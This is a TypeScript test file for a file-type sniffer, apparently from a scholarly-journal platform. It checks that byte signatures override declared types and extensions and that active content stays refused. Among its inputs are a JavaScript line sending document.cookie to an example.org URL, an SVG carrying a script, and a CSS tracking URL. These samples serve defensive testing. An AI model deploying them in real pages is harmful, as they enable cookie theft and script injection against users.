import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { fileType, isActiveContentType, sniffBytes, SNIFF_BYTES, typeOfFileName } from './file-types.ts';

/**
 * A file's type from its first bytes, the declared type and the name's extension: the bytes win
 * where they can tell; the claims say only what the bytes leave open; script types stay refused.
 */

const FIXTURES = path.resolve('test/fixtures/ojs');
const fixture = (name: string) => fs.readFileSync(path.join(FIXTURES, name));
// The JPEG cover of PKP's own OJS 3.3 test export, decoded from the document.
const pkpJpeg = () => Buffer.from(/<cover_image>cover_issue_1_en_US\.jpg<\/cover_image>\s*<cover_image_alt_text\/>\s*<embed encoding="base64">([^<]+)<\/embed>/.exec(fixture('pkp-ojs-export-issues.xml').toString('utf8'))![1]!, 'base64');
const head = (bytes: Buffer) => bytes.subarray(0, SNIFF_BYTES);
const text = (value: string) => Buffer.from(value, 'utf8');

describe('file types from the bytes', () => {
  it('recognises PDF, JPEG and EPUB files by their bytes, with no declared type or name', () => {
    assert.equal(fileType({ head: head(fixture('sm-1786.pdf')) }), 'application/pdf');
    assert.equal(fileType({ head: head(pkpJpeg()) }), 'image/jpeg');
    assert.equal(fileType({ head: head(fixture('baltic-energy.epub')) }), 'application/epub+zip');
  });

  it('recognises HTML documents however they open (doctype, a tag, a comment, a byte order mark, UTF-16)', () => {
    for (const opening of ['<!DOCTYPE html>\n<html lang="en">', '  \n<html>', '<HEAD><title>x</title>', '<p>Text</p>', '<!-- exported by Word -->\n<html>', '\ufeff<!doctype html><title>x</title>', '<table border=1>']) {
      assert.equal(fileType({ head: text(opening) }), 'text/html', opening);
    }
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<html><body>Ż</body></html>', 'utf16le')]);
    assert.equal(fileType({ head: utf16 }), 'text/html');
    // Text that merely mentions a tag is not HTML.
    assert.equal(fileType({ head: text('Use <p> for paragraphs.') }), 'text/plain');
  });

  it('tells XML, XHTML and SVG apart by the root element after the prolog', () => {
    const jats = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Publishing DTD v1.3 20210610//EN" "JATS-journalpublishing1-3.dtd">\n<article xmlns:xlink="http://www.w3.org/1999/xlink">';
    assert.equal(fileType({ head: text(jats) }), 'application/xml');
    assert.equal(fileType({ head: text(jats), declared: 'text/xml' }), 'text/xml', 'a declared XML type names the member of the family');
    assert.equal(fileType({ head: text('<?xml version="1.0"?>\n<!-- c -->\n<html xmlns="http://www.w3.org/1999/xhtml"><head/>') }), 'application/xhtml+xml');
    assert.equal(fileType({ head: text('<?xml version="1.0"?>\n<svg:svg xmlns:svg="http://www.w3.org/2000/svg">') }), 'image/svg+xml');
    assert.equal(fileType({ head: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') }), 'image/svg+xml');
  });

  it('lets the bytes win over a declared type or an extension that disagrees', () => {
    const html = text('<html><body>Not a PDF</body></html>');
    assert.equal(fileType({ head: html, declared: 'application/pdf', name: 'article.pdf' }), 'text/html');
    assert.equal(fileType({ head: head(fixture('sm-1786.pdf')), declared: 'text/html', name: 'article.html' }), 'application/pdf');
    assert.equal(fileType({ head: head(pkpJpeg()), declared: 'image/png' }), 'image/jpeg');
    assert.equal(fileType({ head: text('Plain words.'), declared: 'application/pdf' }), 'text/plain');
    // Bytes that show no PDF signature are not a PDF, whatever the name says.
    assert.equal(fileType({ head: Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff]), name: 'article.pdf' }), 'application/octet-stream');
    // A signature after some junk (as Acrobat reads it) is enough for a file called a PDF, and only for one.
    const late = Buffer.concat([Buffer.from([0x00, 0x00, 0x0d, 0x0a]), fixture('sm-1786.pdf')]);
    assert.equal(fileType({ head: head(late), name: 'article.pdf' }), 'application/pdf');
    assert.equal(fileType({ head: head(late) }), 'application/octet-stream');
  });

  it('takes the declared type, else the extension, where the bytes name only a family or nothing', () => {
    assert.equal(fileType({ head: text('author,title\nNowak,Energy\n'), name: 'data.csv' }), 'text/csv');
    assert.equal(fileType({ head: text('author,title\n'), declared: 'application/octet-stream', name: 'data.csv' }), 'text/csv', 'octet-stream declares nothing');
    assert.equal(fileType({ head: text('@article{nowak2022,'), declared: 'application/x-bibtex' }), 'application/x-bibtex');
    const docx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00]), Buffer.alloc(20), text('[Content_Types].xml')]);
    assert.equal(fileType({ head: docx, name: 'article.docx' }), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    assert.equal(fileType({ head: docx, name: 'article.pdf' }), 'application/zip');
    const mp4 = Buffer.from([0x00, 0x00, 0x00, 0x18, 0x66, 0x74, 0x79, 0x70, 0x6d, 0x70, 0x34, 0x32]);
    assert.equal(fileType({ head: mp4, name: 'interview.mp4' }), 'video/mp4');
    assert.equal(fileType({ head: mp4 }), 'application/octet-stream');
    assert.equal(fileType({ head: Buffer.alloc(0), name: 'empty.txt' }), 'text/plain');
  });

  it('never turns a script, style sheet or SVG into a harmless type on textual bytes, so it stays refused', () => {
    for (const [head, claim] of [
      [text("document.location = 'https://example.org/?' + document.cookie;"), { name: 'tracker.js' }],
      [text('<!-- hidden\nalert(1)'), { declared: 'text/javascript' }],
      [text('body { background: url(https://example.org/track) }'), { declared: 'text/css' }],
      [text('<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a "b">]>\n<x/>'), { declared: 'image/svg+xml' }],
    ] as const) {
      assert.ok(isActiveContentType(fileType({ head, ...claim })), JSON.stringify(claim));
    }
    // A PNG named .js is a PNG: a binary signature cannot be a script.
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
    assert.equal(fileType({ head: png, name: 'x.js' }), 'image/png');
    // A ZIP's own mimetype entry is believed only when it names a ZIP-based format.
    const zip = (mimetype: string) => {
      const header = Buffer.alloc(30);
      header.writeUInt32LE(0x04034b50, 0);
      header.writeUInt32LE(mimetype.length, 18);
      header.writeUInt16LE(8, 26);
      return Buffer.concat([header, text('mimetype'), text(mimetype)]);
    };
    assert.equal(fileType({ head: zip('application/vnd.oasis.opendocument.text') }), 'application/vnd.oasis.opendocument.text');
    assert.equal(fileType({ head: zip('text/html') }), 'application/zip');
    assert.equal(fileType({ head: zip('text/javascript') }), 'application/zip');
  });

  it('reads extensions from names and bare extensions, case-insensitively', () => {
    assert.equal(typeOfFileName('Article.PDF'), 'application/pdf');
    assert.equal(typeOfFileName('.epub'), 'application/epub+zip');
    assert.equal(typeOfFileName('jpg'), 'image/jpeg');
    assert.equal(typeOfFileName('archive.tar.unknown'), undefined);
    assert.equal(typeOfFileName('constructor'), undefined);
    assert.equal(typeOfFileName(undefined), undefined);
  });

  it('reads no more than SNIFF_BYTES, so a long prolog ends in the family, not a guess', () => {
    const long = text(`<?xml version="1.0"?>\n<!--${'x'.repeat(SNIFF_BYTES)}-->\n<html>`);
    assert.deepEqual(sniffBytes(long.subarray(0, SNIFF_BYTES)), { family: 'xml' });
  });
});
